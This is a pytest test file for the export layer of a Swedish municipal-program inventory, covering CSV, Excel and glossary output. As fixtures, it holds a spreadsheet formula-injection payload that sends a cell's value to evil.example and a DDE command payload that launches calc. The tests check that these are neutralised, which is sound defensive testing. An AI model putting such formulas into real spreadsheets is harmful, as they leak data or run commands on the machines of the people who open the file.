from __future__ import annotations

import csv
import json
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from base import vocabulary
from publish import changes, outputs, stats, swedish

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Näringslivsprogram")'


def frame() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "code": ["0114", "0115", "0117"],
            "name": ["Upplands Väsby", "Vallentuna", "Österåker"],
            "county": ["Stockholms län"] * 3,
            "status": ["program_found", "no_program_found", "program_found"],
            "program_title": [HOSTILE, None, "+46 plan\x07 med klockan"],
            "program_url": ["https://a.example/p.pdf", None, "@SUM(1)"],
            "in_force": pd.array([True, False, pd.NA], dtype="boolean"),
            "valid_from": pd.array([2019, None, 2020], dtype="Int64"),
            "confidence": pd.array([0.91, None, 0.5], dtype="Float64"),
            "delta": [-5, 3, 0],
            "evidence": [{"action_plan": {"quote": "handlingsplan", "page": 3}}, {}, None],
            "anchor": ["-lista", "\tTab", "\rCR"],
        }
    )


def test_neutralise_formulas_prefixes_text_and_leaves_numbers() -> None:
    original = frame()
    before = original.copy()
    safe = outputs.neutralise_formulas(original)
    pd.testing.assert_frame_equal(original, before)
    assert safe["program_title"].tolist()[0] == "'" + HOSTILE
    assert safe["program_title"].tolist()[2] == "'+46 plan\x07 med klockan"
    urls = safe["program_url"].tolist()
    assert urls[0] == "https://a.example/p.pdf" and pd.isna(urls[1]) and urls[2] == "'@SUM(1)"
    assert safe["anchor"].tolist() == ["'-lista", "'\tTab", "'\rCR"]
    assert safe["delta"].tolist() == [-5, 3, 0]
    assert safe["name"].tolist() == original["name"].tolist()


def read_rows(path: Path, encoding: str = "utf-8", delimiter: str = ",") -> list[list[str]]:
    with path.open(newline="", encoding=encoding) as handle:
        return list(csv.reader(handle, delimiter=delimiter))


def test_write_csv_contract_file_and_excel_variant(tmp_path: Path) -> None:
    written = outputs.write_csv(frame(), tmp_path / "inventory.csv")
    assert [p.name for p in written] == ["inventory.csv", "inventory.excel.csv"]
    raw = (tmp_path / "inventory.csv").read_bytes()
    assert not raw.startswith(b"\xef\xbb\xbf")
    rows = read_rows(tmp_path / "inventory.csv")
    header, first, second, third = rows
    cell = dict(zip(header, first, strict=True))
    assert cell["program_title"] == "'" + HOSTILE
    assert cell["in_force"] == "true" and cell["confidence"] == "0.91" and cell["delta"] == "-5"
    assert json.loads(cell["evidence"]) == {"action_plan": {"page": 3, "quote": "handlingsplan"}}
    empty = dict(zip(header, second, strict=True))
    assert (empty["in_force"], empty["program_title"], empty["valid_from"], empty["evidence"]) == ("false", "", "", "")
    assert dict(zip(header, third, strict=True))["in_force"] == ""

    excel = (tmp_path / "inventory.excel.csv").read_bytes()
    assert excel.startswith(b"\xef\xbb\xbf") and b"\r\n" in excel
    excel_rows = read_rows(tmp_path / "inventory.excel.csv", encoding="utf-8-sig", delimiter=";")
    excel_cell = dict(zip(excel_rows[0], excel_rows[1], strict=True))
    assert excel_cell["Säkerhet (modell)"] == "0,91" and excel_cell["Kommun"] == "Upplands Väsby"
    assert excel_cell["Programmets titel"] == "'" + HOSTILE
    # Both files hold the same table: Swedish headers, words and SANT/FALSKT for people, codes in the contract.
    assert excel_rows[0] == [outputs.SWEDISH_HEADERS.get(c, c) for c in header]
    assert [r[:3] for r in rows[1:]] == [r[:3] for r in excel_rows[1:]]
    assert [r[3] for r in excel_rows[1:]] == ["Program hittat", "Inget program hittat", "Program hittat"]
    assert (excel_cell["Gällande"], dict(zip(excel_rows[0], excel_rows[2], strict=True))["Gällande"]) == (
        "SANT", "FALSKT")


def test_people_read_swedish_words_and_programs_read_codes(tmp_path: Path) -> None:
    table = pd.DataFrame({
        "status": ["program_found", "site_unreachable"], "program_type": ["tillvaxt", None],
        "regional_category": ["rus", None], "found_via": ["search", None], "crawl_status": ["found", "weird"],
        "review_reasons": ["is_program 0.58; sustainability 0.46", None],
    })  # fmt: skip
    people = swedish.for_people(table)
    assert people.iloc[0].tolist() == ["Program hittat", "Tillväxtprogram/-strategi",
                                       "Regional utvecklingsstrategi (RUS)", "Sökrutan", "Kandidat hittad",
                                       "Är ett program 0,58; Hållbarhet betonas 0,46"]
    assert people.iloc[1]["crawl_status"] == "weird"  # an unknown code is shown, not lost
    assert table["status"].tolist() == ["program_found", "site_unreachable"]  # the input is not changed
    outputs.write_csv(table, tmp_path / "t.csv")
    assert read_rows(tmp_path / "t.csv")[1][:2] == ["program_found", "tillvaxt"]
    # Every word in the glossary, next to its code.
    glossary = outputs.glossary({"Inventering": people})
    pairs = {(section, term, code) for section, _, term, code, _ in glossary.itertuples(index=False)}
    for column, section in swedish.VALUE_SECTIONS.items():
        for code, word in swedish.VALUE_LABELS[column].items():
            assert (section, word, code) in pairs, (section, code)
    for code, word in swedish.REVIEW_LABELS.items():
        assert ("Skäl att granska", word, code) in pairs


def test_write_xlsx_reopens_with_the_same_data(tmp_path: Path) -> None:
    summary = stats.summarise(stats.apply_year(frame().assign(county_code="01", year=2025), 2025))
    path = outputs.write_xlsx({"Inventering": frame(), "Sammanfattning": summary}, tmp_path / "inventory.xlsx")
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["Inventering", "Sammanfattning"]
    sheet = book["Inventering"]
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:L4"
    headers = [c.value for c in sheet[1]]
    assert headers[:5] == ["Kommunkod", "Kommun", "Län", "Status", "Programmets titel"]
    title = sheet["E2"]
    assert title.data_type == "s" and title.value == "'" + HOSTILE  # text, never a formula
    assert sheet["E4"].value == "'+46 plan med klockan"  # control character dropped
    assert sheet.column_dimensions["E"].width == 60 and 8 <= sheet.column_dimensions["A"].width <= 12

    back = pd.read_excel(path, sheet_name=None, dtype={"Kommunkod": str})
    inventory_back = back["Inventering"]
    assert inventory_back["Kommunkod"].tolist() == ["0114", "0115", "0117"]
    assert inventory_back["Gällande"].tolist()[:2] == [True, False] and pd.isna(inventory_back["Gällande"][2])
    assert inventory_back["Gäller från (år)"].tolist()[:2] == [2019, pytest.approx(float("nan"), nan_ok=True)]
    assert inventory_back["delta"].tolist() == [-5, 3, 0]
    summary_back = back["Sammanfattning"].rename(columns={v: k for k, v in outputs.SWEDISH_HEADERS.items()})
    assert summary_back["metric"].tolist() == summary["metric"].tolist()
    assert summary_back["count"].tolist() == summary["count"].tolist()
    pd.testing.assert_series_equal(
        summary_back["percent"].astype("Float64"), summary["percent"], check_names=False, check_exact=False
    )


def test_write_outputs_writes_every_file(tmp_path: Path) -> None:
    inventory = stats.apply_year(frame().assign(county_code="01", year=2025), 2025)
    one = {"code": ["0114"], "name": ["Upplands Väsby"]}
    documents = pd.DataFrame(
        {**one, "sha256": ["a" * 64], "url": [HOSTILE], "picked": pd.array([True], dtype="boolean")}
    )
    links = pd.DataFrame(
        {**one, "program_title": [HOSTILE], "program_url": ["https://a.example/p.pdf"], "found_via": ["link"]}
    )
    change_list = changes.compare_inventories(None, inventory)
    written = outputs.write_outputs(
        tmp_path, inventory=inventory, documents=documents, links=links, summary=stats.summarise(inventory),
        by_county=stats.summarise_by_county(inventory), changes=change_list, year=2025,
    )  # fmt: skip
    names = {p.name for p in written}
    for table in ("inventory", "summary", "documents", "links", "county", "changes", "alerts"):
        assert {f"{table}.csv", f"{table}.excel.csv"} <= names
    assert {"inventory.xlsx", "report.html"} <= names
    assert all(p.exists() and p.parent == tmp_path for p in written)
    assert not list(tmp_path.glob(".*"))  # no temporary files left behind
    header, *rows = read_rows(tmp_path / "inventory.csv")
    assert header[: len(outputs.INVENTORY_COLUMNS)] == list(outputs.INVENTORY_COLUMNS)
    assert [r[0] for r in rows] == ["0114", "0115", "0117"]
    assert "'=HYPERLINK" in (tmp_path / "documents.csv").read_text(encoding="utf-8")


def test_datasette_metadata_describes_every_store_table_and_column() -> None:
    from base import store

    path = Path(outputs.__file__).parent.parent / "inventory" / "data" / "datasette-metadata.json"
    tables = json.loads(path.read_text(encoding="utf-8"))["databases"]["kommunprogram"]["tables"]
    for table in store.metadata.sorted_tables:
        assert tables.get(table.name, {}).get("description"), f"no description for table {table.name}"
        described = tables[table.name].get("columns", {})
        missing = [c.name for c in table.columns if not described.get(c.name)]
        assert not missing, f"{table.name}: columns without a description: {missing}"
        stale = sorted(set(described) - {c.name for c in table.columns})
        assert not stale, f"{table.name}: descriptions of columns that no longer exist: {stale}"


def pipeline_tables() -> dict[str, pd.DataFrame]:
    """The tables of write_outputs with the columns the pipeline really writes (stats_stage's steps)."""
    from inventory import pipeline
    from publish import overrides

    decision = {"sha256": "a" * 64, "url": HOSTILE, "role": "program", "picked": True, "draft": False}
    row = {"code": "0114", "name": "Upplands Väsby", "status": "program_found", "program_title": HOSTILE,
           "program_url": "https://a.example/p.pdf", "found_via": "link", "decisions": [decision]}  # fmt: skip
    inventory, documents, links = pipeline.frames_from_results([row])
    reviewed = pd.DataFrame(
        {"code": ["0114"] * 2, "field": ["ambiguous", "doc_kind"], "value": ["nej", "program_doc"],
         "comment": ["", ""], "reviewer": ["Bo Ek"] * 2}
    )  # fmt: skip
    inventory = overrides.apply_overrides(stats.apply_year(inventory, 2025), reviewed)
    return {
        "inventory": inventory, "documents": documents, "links": links, "summary": stats.summarise(inventory),
        "by_county": stats.summarise_by_county(inventory), "changes": changes.compare_inventories(inventory, inventory),
    }  # fmt: skip


def test_workbook_glossary_explains_every_column_status_and_tag(tmp_path: Path) -> None:
    outputs.write_outputs(tmp_path, **pipeline_tables(), year=2025)
    book = openpyxl.load_workbook(tmp_path / "inventory.xlsx")
    assert book.sheetnames[-1] == outputs.SHEETS["glossary"] == "Förklaringar"
    glossary = book["Förklaringar"]
    header, *rows = [[c.value for c in r] for r in glossary.iter_rows()]
    assert header == [outputs.SWEDISH_HEADERS[c] for c in outputs.GLOSSARY_COLUMNS]
    assert glossary.freeze_panes == "A2" and glossary.auto_filter.ref
    explained = {(sheet, term): text for section, sheet, term, _, text in rows if section == "Kolumn"}
    for sheet in book.worksheets:
        for cell in sheet[1]:
            text = explained.get((sheet.title, cell.value))
            assert text and text != outputs.UNEXPLAINED, f"{sheet.title}: column {cell.value!r} is not explained"
    values = {(section, csv_name) for section, _, _, csv_name, _ in rows}
    assert {("Status", s) for s in vocabulary.STATUS_NAMES} <= values
    assert {("Tagg", t) for t in vocabulary.COUNTED_TAGS} <= values
    assert {("Förändring", c) for c in changes.CHANGES} <= values


def test_glossary_marks_unexplained_columns_and_is_neutralised(tmp_path: Path) -> None:
    sheets = {"Inventering": frame().assign(**{"=cmd|' /C calc'!A0": [1, 2, 3]})}
    glossary = outputs.glossary(sheets)
    columns = glossary[glossary["section"] == "Kolumn"]
    unexplained = columns.loc[columns["explanation"] == outputs.UNEXPLAINED, "csv_name"].tolist()
    assert unexplained == ["delta", "anchor", "=cmd|' /C calc'!A0"]
    path = outputs.write_xlsx({**sheets, "Förklaringar": glossary}, tmp_path / "inventory.xlsx")
    cells = [c for r in openpyxl.load_workbook(path)["Förklaringar"].iter_rows(min_row=2) for c in r]
    hostile = [c for c in cells if isinstance(c.value, str) and "cmd|" in c.value]
    assert hostile and all(c.data_type == "s" and c.value.startswith("'=") for c in hostile)


def test_every_status_and_override_field_has_an_explanation() -> None:
    from publish import overrides

    assert set(outputs.STATUS_EXPLANATIONS) == set(vocabulary.STATUS_NAMES)
    missing = sorted({*overrides.FIELDS, *overrides.PROVENANCE_COLUMNS} - set(outputs.COLUMNS))
    assert not missing, f"columns an override can add but the glossary cannot explain: {missing}"
    assert all(header and text for header, text in outputs.COLUMNS.values())


def test_review_reasons_reach_every_output(tmp_path: Path) -> None:
    swedish_reasons = "Är ett program 0,58; Hållbarhet betonas 0,46"
    tables = pipeline_tables()
    tables["inventory"] = tables["inventory"].assign(
        needs_review=pd.array([True], dtype="boolean"), review_reasons=["is_program 0.58; sustainability 0.46"])
    outputs.write_outputs(tmp_path, **tables, year=2025)
    header, row = read_rows(tmp_path / "inventory.csv")
    assert dict(zip(header, row, strict=True))["review_reasons"] == "is_program 0.58; sustainability 0.46"
    header, row = read_rows(tmp_path / "inventory.excel.csv", encoding="utf-8-sig", delimiter=";")
    assert dict(zip(header, row, strict=True))["Skäl att granska"] == swedish_reasons
    sheet = openpyxl.load_workbook(tmp_path / "inventory.xlsx")["Inventering"]
    rows = [[c.value for c in r] for r in sheet.iter_rows()]
    assert dict(zip(rows[0], rows[1], strict=True))["Skäl att granska"] == swedish_reasons
    assert swedish_reasons in (tmp_path / "report.html").read_text(encoding="utf-8")
